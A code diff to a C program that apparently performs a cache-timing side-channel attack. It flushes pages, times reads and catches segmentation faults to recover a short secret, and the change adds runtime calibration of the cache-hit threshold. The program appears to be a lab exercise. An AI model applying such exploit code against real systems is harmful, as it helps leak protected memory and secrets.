@@ -7,6 +7,7 @@
 #define __USE_GNU
 #include <signal.h>
 
+#include "calibrate.h"
 #include "util.h"
 
 extern uint8_t label[];
@@ -14,7 +15,9 @@ extern uint8_t label[];
 const size_t MIN_CHOICE = 'A' - 1;
 const size_t MAX_CHOICE = 'Z' + 1;
 const size_t SECRET_LENGTH = 5;
-const size_t THRESHOLD = 200;
+
+/* Reads faster than this many cycles hit in the cache; measured at startup */
+static uint64_t hit_threshold;
 
 static inline page_t *init_pages(void) {
     page_t *pages = calloc(UINT8_MAX + 1, PAGE_SIZE);
@@ -23,14 +26,16 @@ static inline page_t *init_pages(void) {
 }
 
 static inline void flush_all_pages(page_t *pages) {
+    const void *lines[MAX_CHOICE - MIN_CHOICE + 1];
     for (size_t i = MIN_CHOICE; i <= MAX_CHOICE; i++) {
-        flush_cache_line(&pages[i]);
+        lines[i - MIN_CHOICE] = &pages[i];
     }
+    flush_cache_lines(lines, MAX_CHOICE - MIN_CHOICE + 1);
 }
 
 static inline size_t guess_accessed_page(page_t *pages) {
     for (size_t i = MIN_CHOICE; i <= MAX_CHOICE; i++) {
-        if ((time_read(&pages[i]) < THRESHOLD) && (time_read(&pages[i]) < THRESHOLD)) {
+        if ((time_read(&pages[i]) < hit_threshold) && (time_read(&pages[i]) < hit_threshold)) {
             return i;
         }
     }
@@ -50,6 +55,8 @@ static void sigfpe_handler(int signum, siginfo_t *siginfo, void *context) {
 }
 
 int main() {
+    hit_threshold = calibrate_hit_threshold();
+
     struct sigaction act = {.sa_sigaction = sigfpe_handler, .sa_flags = SA_SIGINFO};
     sigaction(SIGSEGV, &act, NULL);
 